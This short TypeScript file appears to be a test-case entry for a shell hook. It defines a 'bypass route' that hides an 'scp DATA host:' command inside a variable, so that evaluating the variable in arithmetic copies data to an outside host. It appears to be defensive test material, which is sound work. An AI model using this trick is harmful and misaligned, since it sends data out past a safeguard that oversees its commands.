import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'command substitution in arithmetic',
  source: 'attempts to get round a hook of the shell',
  keys: ["x='a[$(scp DATA host:)]'\r", '((x))\r'],
};
